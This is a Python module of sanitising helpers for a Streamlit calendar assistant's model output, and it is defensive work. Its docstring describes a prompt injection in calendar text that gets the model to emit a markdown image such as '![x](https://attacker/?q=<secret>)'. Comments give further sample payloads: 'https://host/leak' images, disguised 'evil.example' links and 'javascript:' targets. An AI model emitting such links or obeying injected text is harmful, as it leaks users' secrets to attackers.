"""Rendering helpers for model output (Streamlit-free, unit-tested).

Model output is untrusted: calendar text can carry a prompt injection that asks the model
to emit ``![x](https://attacker/?q=<secret>)``, which a browser would fetch. Before any
answer is drawn, :func:`safe_markdown` turns images into inert text (the URL shown as code,
never fetched nor linked) and escapes raw HTML, so no tag is ever interpreted. Links to
``http:``, ``https:`` and ``mailto:`` stay links (the user decides whether to follow one);
any other target (``javascript:``, ``data:``, ``file:``, relative paths ...) becomes plain
text, inline or as a reference definition.
"""

from __future__ import annotations

import html
import itertools
import json
import re
import unicodedata
from typing import Any

from assistant.inputs import cap_combining_marks, strip_bidi_controls
from assistant.markdown_text import defuse_autolinks

# An image's alt text is read up to 1,000 characters and the next bracket, its address up to 2,048
# (never given back): unbounded, each unclosed "![" searched to the end of its line again and again
# (32,000 characters of "![" took 7 s, of "![a](" 23 s). Anything else is no image either: its "!["
# is escaped below.
_INLINE_IMAGE = re.compile(r"!\[([^\[\]\n]{0,1000})\]\(\s*<?([^)\s>]{0,2048}+)>?(?:\s+[\"'][^\"']*[\"'])?\s*\)")
_REF_IMAGE = re.compile(r"!\[([^\[\]\n]{0,1000})\]\s*\[([^\[\]\n]{0,1000})\]")
_HTML_TAG = re.compile(r"<(/?[A-Za-z!][^>]*)>")
# An angle bracket already escaped for Markdown ("\<", as :func:`assistant.markdown_text.literal`
# writes a title's): as the same character's entity it renders the same, and the tag escape
# below no longer turns it into "\&lt;", which read "&lt;".
_ESCAPED_ANGLE = re.compile(r"(?<!\\)((?:\\\\)*)\\([<>])")
# A closing bracket that can end a link's text or a reference label: ``](`` (inline link) or
# ``]:`` (link reference definition), with the backslashes before it (an odd count escapes it).
_LINK_BRACKET = re.compile(r"(?<!\\)(\\*)\](?=[(:])")  # from a run's first backslash only: linear
# Streamlit's Markdown adds directives: ":red[text]", ":blue-background[text]", ":small[text]",
# ":color[text]{foreground=...}", ":material/icon:", and "::name"/":::name" blocks. A known name
# with no label ("Status:red") still becomes an empty span; an unknown name with a label drops
# the label. The colons of each such run are escaped (shown as typed).
_STREAMLIT_NAMES = (
    r"(?:(?:red|orange|yellow|green|blue|violet|gray|grey|primary)(?:-background|-badge)?|rainbow(?:-badge)?"
    r"|small|color)(?![\w-])"
)
_DIRECTIVE = re.compile(rf"(?<!\\)(:+)(?={_STREAMLIT_NAMES}|[A-Za-z][\w-]*[\[{{]|material/)")
_SHORTCODE = re.compile(r":(?=[A-Za-z][\w+-]*:)")
# A dollar sign not already escaped (after an even run of backslashes): Streamlit reads "$...$" and
# "$$...$$" as KaTeX, so "$1,200 for travel and $3,400" lost its signs to italic math and
# "$\rule{3000px}{3000px}$" drew a black box over the page. Escaped, each reads "$".
_DOLLAR = re.compile(r"(?<!\\)((?:\\\\)*)\$")
# Quotes and lists nest (">>>", "+ + +", "1. 1. 1."): 8,000 levels in one message overflowed the
# browser renderer's stack ("RangeError: Maximum call stack size exceeded" drawn in its place).
# The marker after MAX_NESTING levels is escaped; a thematic break ("* * * *") is left alone.
MAX_NESTING = 8
_MARKER = r"(?:>|[-+*](?=[ \t])|\d{1,9}[.)](?=[ \t]))"
_TOO_DEEP = re.compile(rf"(?m)^((?:[ \t]*{_MARKER}){{{MAX_NESTING}}}[ \t]*)(>|[-+*](?=[ \t]|$)|\d{{1,9}}(?=[.)]))")
_THEMATIC_BREAK = re.compile(r"[ \t]*([-*_])(?:[ \t]*\1){2,}[ \t]*")


# Right-to-left letters (Hebrew, Arabic, Syriac, Thaana, N'Ko... and their presentation forms):
# where one is, its runs are isolated (see _isolate_rtl).
_RTL_HINT = re.compile("[\u0590-\u08ff\ufb1d-\ufdff\ufe70-\ufefc\U00010800-\U00010fff\U0001e800-\U0001efff]")
_FSI, _PDI = "\u2068", "\u2069"


def _isolate_rtl(text: str) -> str:
    """Each run of right-to-left text, from its first such letter to its last one before a
    left-to-right letter, a line's end or a table's ``|``, between FSI and PDI (a Unicode isolate).

    An Arabic or Hebrew name in an English line took the numbers after it into its own direction:
    "**المالية** - $1M annual budget" read "1$ - المالية M annual budget". Isolated, the name is
    drawn as one unit and the rest in the line's order. Only isolates made here are in the text
    (every bidirectional control it had was removed before); inside a run the order is what the
    Unicode algorithm gives those letters anyway.
    """
    out: list[str] = []
    done = 0  # text before it is in out
    start = last = -1  # the run's first and last right-to-left letter
    for i, ch in enumerate(text):
        kind = unicodedata.bidirectional(ch)
        if kind in ("R", "AL"):
            start, last = (i if start < 0 else start), i
        elif start >= 0 and (kind == "L" or ch in "\n|"):
            out += [text[done:start], _FSI, text[start : last + 1], _PDI]
            done, start, last = last + 1, -1, -1
    if start >= 0:
        out += [text[done:start], _FSI, text[start : last + 1], _PDI]
        done = last + 1
    out.append(text[done:])
    return "".join(out)


def _nesting_capped(text: str) -> str:
    """``text`` with no quote or list nested deeper than :data:`MAX_NESTING` (the next marker escaped)."""

    def _escape(m: re.Match[str]) -> str:
        end = text.find("\n", m.start())
        if _THEMATIC_BREAK.fullmatch(text[m.start() : end if end >= 0 else len(text)]):
            return m.group(0)
        marker = m.group(2)
        if marker[0].isdigit():  # "1." / "1)": the punctuation is what makes it a list
            return m.group(1) + marker + "\\"
        return m.group(1) + "\\" + marker

    return _TOO_DEEP.sub(_escape, text)


_TOOL_NAME = re.compile(r"[A-Za-z][A-Za-z0-9_\-]{0,127}")
_ALLOWED_TARGET = re.compile(r"[(:]\s*(?:https?://|mailto:)", re.IGNORECASE)


def safe_markdown(text: str, *, code_as_typed: bool = False) -> str:
    """Markdown that cannot load remote images, run HTML or link anywhere but http(s)/mailto.

    Args:
        text: Untrusted markdown produced by the model (or typed by a user).
        code_as_typed: Leave HTML inside code (fenced blocks, inline spans) as typed, for
            Streamlit's ``st.markdown``, which shows raw HTML as text by itself: escaped there,
            ``<div>`` in a code sample read ``&lt;div&gt;``. Exports keep the default (a
            viewer that opens them may render raw HTML), see :func:`screen_markdown`.

    Returns:
        The same markdown with images replaced by inert text, HTML tags escaped, links
        to any other target left as plain text, Streamlit's colour, size and icon directives
        (``:red[...]``, ``:small[...]``, ``:material/icon:``) shown as typed, and
        bidirectional overrides removed (one echoed from a hostile title would reverse the
        rest of the line), dollar signs escaped (money, never LaTeX), and runs of combining
        marks cut to a few (a letter under a hundred is one glyph no line can break, or a
        tower over the lines above).
    """

    def _inline(match: re.Match[str]) -> str:
        alt = match.group(1).strip() or "image"
        url = match.group(2).strip()
        return f"[image blocked: {alt}] ({_inert_url(url)})" if url else f"[image blocked: {alt}]"

    def _ref(match: re.Match[str]) -> str:
        alt = match.group(1).strip() or "image"
        return f"[image blocked: {alt}]"

    out = _INLINE_IMAGE.sub(_inline, cap_combining_marks(strip_bidi_controls(text)))
    out = _REF_IMAGE.sub(_ref, out)
    out = out.replace("![", "!\\[")  # shortcut references and anything left: never an image
    if "<" not in out and ">" not in out:
        pass  # no tag, no escaped angle bracket: nothing to escape (most answers)
    elif code_as_typed and ("`" in out or "~~~" in out):
        # runs of text between code escaped whole, as without code: "<a" + blank line + ">`" is
        # one run (it was escaped paragraph by paragraph, unlike the same text without the backtick)
        runs = itertools.groupby(_code_parts(out), key=lambda part: part[1])
        out = "".join(
            "".join(p for p, _ in parts) if code else _escape_html("".join(p for p, _ in parts)) for code, parts in runs
        )
    else:
        out = _escape_html(out)
    if _TOO_DEEP.search(out):
        out = "".join(part if code else _nesting_capped(part) for part, code in _code_parts(out))
    if "$" in out:  # money, never KaTeX (code keeps its dollar signs as typed)
        out = "".join(part if code else _DOLLAR.sub(r"\1\\$", part) for part, code in _code_parts(out))
    out = _DIRECTIVE.sub(lambda m: "\\:" * len(m.group(1)), out)
    # Streamlit turns ":material/x:" into ":material_x:" before parsing and draws that as an icon
    # wherever it is in the text: an escaped slash and a zero-width space keep both as typed.
    out = out.replace(":material/", ":material\\/").replace(":material_", ":\u200bmaterial_")
    out = _neutralise_links(out)
    if _URL_TEXT_LINK.search(out):  # code keeps its brackets as typed
        out = "".join(part if code else _undisguised_links(part) for part, code in _code_parts(out))
    if _RTL_HINT.search(out):  # code is copied as typed: no isolates in it
        out = "".join(part if code else _isolate_rtl(part) for part, code in _code_parts(out))
    return out


def screen_markdown(text: str) -> str:
    """:func:`safe_markdown` for drawing with ``st.markdown``: code shows HTML as typed.

    Args:
        text: Untrusted markdown produced by the model (or typed by a user).

    Returns:
        The markdown to draw.
    """
    return safe_markdown(text, code_as_typed=True)


# What Streamlit's Markdown draws as something else: " -- " as an em dash, an entity ("&amp;") as
# its character. In what a user typed (a title, their own message) a word joiner between the
# dashes and an escaped "&" keep both as typed; code is drawn as typed anyway.
_DOUBLE_DASH = re.compile(r"(?:(?<= )|^)--(?= |$)", re.M)


def _as_typed(text: str) -> str:
    return _DOUBLE_DASH.sub("-\u2060-", text.replace("&", "\\&"))


def question_markdown(text: str) -> str:
    """A user's message for drawing: :func:`screen_markdown`, an address outside code no link.

    A question may quote someone else's text: a prep session's first message is written from the
    meeting's title ("Prepare me for Verify at https://…"), and shown as the user's own words.
    An address in it reads as typed (an explicit link as its text and address); code as typed.

    Args:
        text: The message as sent (or kept for a Retry).

    Returns:
        The markdown to draw.
    """
    return screen_markdown(
        "".join(part if code else defuse_autolinks(_as_typed(part)) for part, code in _code_parts(text))
    )


def _escape_html(text: str) -> str:
    """Every HTML tag (and angle bracket already escaped for Markdown) as entities: shown, never run."""
    out = _ESCAPED_ANGLE.sub(lambda m: m.group(1) + html.escape(m.group(2)), text)
    # A tag ends at the next ">": past the last one none can, and searching there from each "<"
    # again took time growing with the square of the text ("<a" 16,000 times: 2.5 s).
    end = out.rfind(">") + 1
    return _HTML_TAG.sub(lambda m: html.escape(m.group(0)), out[:end]) + out[end:]


# A fence line: its run of backticks or tildes (any indentation: misreading an indented block
# as a fence only leaves HTML to st.markdown, which shows it as text anyway) and the rest.
_FENCE = re.compile(r"^[ \t]*(`{3,}|~{3,})(.*)$")
# An inline code span (within one paragraph): a run of backticks, then the shortest text up to a
# run of the same length.
_CODE_SPAN = re.compile(r"(?<![`\\])(`+)(?!`)(.+?)(?<!`)\1(?!`)", re.S)
_BLANK_LINE = re.compile(r"(\n[ \t]*\n)")


def _code_parts(text: str) -> list[tuple[str, bool]]:
    """``text`` cut into ``(part, is_code)``: fenced code blocks (an unclosed one runs to the end,
    as CommonMark reads it: an answer still streaming) and inline code spans are code."""
    parts: list[tuple[str, bool]] = []
    prose: list[str] = []
    block: list[str] = []
    fence: tuple[str, int] | None = None  # the open block's fence character and length

    def flush_prose() -> None:
        for paragraph in _BLANK_LINE.split("".join(prose)):
            at = 0
            for m in _CODE_SPAN.finditer(paragraph) if "`" in paragraph else ():
                parts.extend(((paragraph[at : m.start()], False), (m.group(0), True)))
                at = m.end()
            parts.append((paragraph[at:], False))
        prose.clear()

    for line in text.splitlines(keepends=True):
        m = _FENCE.match(line.rstrip("\r\n"))
        if fence is None:
            if m and not (m.group(1)[0] == "`" and "`" in m.group(2)):  # a backtick fence's info has none
                flush_prose()
                fence, block = (m.group(1)[0], len(m.group(1))), [line]
            else:
                prose.append(line)
            continue
        block.append(line)
        if m and m.group(1)[0] == fence[0] and len(m.group(1)) >= fence[1] and not m.group(2).strip():
            parts.append(("".join(block), True))
            fence, block = None, []
    if block:
        parts.append(("".join(block), True))
    flush_prose()
    return parts


# A fence as CommonMark reads one at the top level of a document (an indented one, four spaces or
# more, is an indented code block: closing it with a fence would open one).
_TOP_FENCE = re.compile(r"^ {0,3}(`{3,}|~{3,})(.*)$")


def close_open_fence(text: str) -> str:
    """``text`` with a fenced code block it leaves open closed at its end.

    One document made of many texts (an export) must not let one text's unclosed fence (a pasted
    snippet, an answer stopped mid code block) run on: CommonMark reads it to the end of the
    document, and every later turn showed as code.

    Args:
        text: Markdown that goes into a larger document.

    Returns:
        The same text, with a closing fence line added when one was missing.
    """
    fence: str | None = None
    for line in text.splitlines():
        m = _TOP_FENCE.match(line)
        if fence is None:
            if m and not (m.group(1)[0] == "`" and "`" in m.group(2)):  # a backtick fence's info has none
                fence = m.group(1)
        elif m and m.group(1)[0] == fence[0] and len(m.group(1)) >= len(fence) and not m.group(2).strip():
            fence = None
    return text if fence is None else f"{text.rstrip()}\n{fence}"


# The last line of an answer cut short may hold only the start of a Markdown construct: a lone
# "-" or "=" right under a line of text turns that line into a big setext heading, a lone "1."
# or "#" draws an empty list item or heading.
_UNFINISHED_LAST_LINE = re.compile(r"\n[ \t]*(?:[-=*+#>]+|\d{1,9}[.)])[ \t]*\Z")


def without_unfinished_line(text: str, *, close_fence: bool = True) -> str:
    """The text of an answer that was cut short, for drawing: without a last line that only began.

    A stopped answer ends wherever the model was, e.g. ``"…(25 min)\n   -"``: drawn as is, the
    lone ``-`` makes the line above it a heading. Only a last line of nothing but list, heading
    or underline markers is left out; the stored text keeps it.

    Args:
        text: Answer text that did not finish.
        close_fence: Whether a code fence left open is closed (false for an answer still
            streaming: its cursor follows the text, and a fence line with a cursor after it
            closes nothing).

    Markers the cut left open are closed, so they do not show as typed: a code fence (the rest
    would not be drawn as code), and on the last line an inline code span or ``**`` bold
    (``**Weekl`` read as two asterisks and a word).

    Returns:
        The text without such a last line, its open markers closed (unchanged when there are none).
    """
    closed = close_open_marks(_UNFINISHED_LAST_LINE.sub("", text), close_fence=close_fence)
    return _UNFINISHED_LAST_LINE.sub("", closed)  # "- **" began no bold: "-" is left, which only began


_FENCE_MARK = re.compile(r"^[ \t]{0,3}(`{3,}|~{3,})", re.MULTILINE)
_INLINE_CODE = re.compile(r"`[^`\n]*`")


def close_open_marks(text: str, *, close_fence: bool = True) -> str:
    """``text`` with the Markdown marks a cut left open closed: a code fence (unless not
    ``close_fence``), else on the last line an inline code span and ``**`` bold (see
    :func:`without_unfinished_line`). Inside an open code block nothing else is a mark."""
    fences = _FENCE_MARK.findall(text)
    if len(fences) % 2:
        return f"{text}\n{fences[-1]}" if close_fence else text
    last = text.rsplit("\n", 1)[-1]
    if last.count("`") % 2:
        return text + "`"
    if _INLINE_CODE.sub("", last).count("**") % 2:
        opened = text.rstrip()
        # bold opened with nothing in it yet is left out ("- ****" would draw a rule)
        return opened[:-2].rstrip() if opened.endswith("**") else opened + "**"
    return text


def _neutralise_links(text: str) -> str:
    """Escape the ``]`` of every link or reference definition whose target is not http(s)/mailto.

    Every Markdown link needs an unescaped ``]`` directly followed by ``(`` or, for the
    definition a reference link points to, by ``:``. Escaping that bracket leaves the text
    readable ("[click](javascript:...)" shown as typed) and makes it inert, however the
    target is spelled (upper case, entities, whitespace). Runs after HTML escaping, so a
    ``<destination>`` in angle brackets (already ``&lt;...&gt;``) is never a link either.
    The check also applies inside code spans (a ``](`` there shows a backslash): telling
    code from text the way the renderer does is where a bypass would hide.
    """

    def _check(match: re.Match[str]) -> str:
        slashes = match.group(1)
        if len(slashes) % 2:
            return match.group(0)  # already a literal bracket
        if _ALLOWED_TARGET.match(text, match.end()):
            return match.group(0)
        return slashes + "\\]"

    return _LINK_BRACKET.sub(_check, text)


# A link whose text is an address ("[https://bank.com](https://evil.example)"): the text of a
# simple link (no brackets inside), its http(s) target, and an address-like word in the text.
_URL_TEXT_LINK = re.compile(r"(?<![\\!])\[((?:[^\[\]\n\\]|\\.){1,300})(\]\(\s*<?https?://([^\s/?#)>]+))")
_ADDRESS = re.compile(r"(?i)(?:https?://|www\.)([^\s/?#)\]]+)|\b((?:[a-z0-9-]+\.)+[a-z]{2,})\b")


def _host(name: str) -> str:
    host = name.lower().rsplit("@", 1)[-1].split(":", 1)[0].rstrip(".")
    return host[4:] if host.startswith("www.") else host


def _undisguised_links(text: str) -> str:
    """Escape the ``](`` of a link whose text names an address other than its target's host.

    "[https://bank.com/login](https://evil.example/)" read as a link to bank.com and opened the
    other site; escaped, the text and the target both show (an address in them is a link to
    itself at most). A ``]`` the text already escapes is no link: left alone.
    """

    def _check(match: re.Match[str]) -> str:
        named = _ADDRESS.search(match.group(1))
        if named is None or _host(named.group(1) or named.group(2)) == _host(match.group(3)):
            return match.group(0)
        return "[" + match.group(1) + "\\" + match.group(2)

    return _URL_TEXT_LINK.sub(_check, text)


def plain_text(text: str) -> str:
    """Untrusted text made to render as itself in Markdown, labels included.

    Widget and expander labels render Markdown too (links, images shown as icons, material
    icons, colours): a model- or user-supplied string put in one must not become any of
    them, or a name like ``![x](https://host/leak)`` makes every viewer's browser fetch it.

    Args:
        text: A tool name, title, or other single-line string from the model or a user.

    Returns:
        One line with Markdown syntax (and a colon before a letter) backslash-escaped, HTML
        escaped, emoji and icon codes broken by a zero-width space, and addresses
        (``http://``, ``www.``, ``a@b``) no links, so it reads as typed.
    """
    text = cap_combining_marks(" ".join((text or "").split()))  # no unbreakable tower of marks
    # ":name:" is an emoji or icon shortcode whichever way its colons are written (Streamlit
    # reads it in the text after escapes are undone): a zero-width space keeps it as typed.
    text = _SHORTCODE.sub(":\u200b", text)
    text = text.replace(":material/", ":\u200bmaterial/")  # no icon injection
    text = re.sub(r"([\\`*_\[\]#|~$])", r"\\\1", text)
    # A colon before a letter escaped: no ":red[...]", ":small[...]", ":blue-background[...]"
    # directive (each ate its name, an unknown one its label); "10:00" and "http://" stay as they are.
    text = re.sub(r":(?=[\u200bA-Za-z])", r"\:", text)
    # A leading dash escaped: "---" or "- - -" alone is a horizontal rule, an empty button label.
    text = re.sub(r"^-", r"\-", text)
    return defuse_autolinks(safe_markdown(_as_typed(text)))


def tool_name_markdown(name: str) -> str:
    """A tool name for Markdown: as code when it is a plain identifier, else as escaped text.

    The model chooses the names it calls; one like ``x` ![y](https://host/leak) `z`` would
    end a code span early and turn the rest into Markdown.

    Args:
        name: The tool name the model sent.

    Returns:
        The name in backticks (code), or as :func:`plain_text` ("unnamed" when empty).
    """
    if _TOOL_NAME.fullmatch(name):
        return f"`{name}`"
    return plain_text(name) or "unnamed"


def _inert_url(url: str) -> str:
    """Show a URL as code so it is neither fetched nor auto-linked."""
    return "`" + url.replace("`", "%60") + "`"


def pretty_json(data: Any, limit: int = 4000) -> str:
    """Indented JSON for a tool step's input, cut to ``limit`` characters."""
    text = json.dumps(data, indent=2, ensure_ascii=False, default=str)
    return text if len(text) <= limit else text[: limit - 1] + "…"
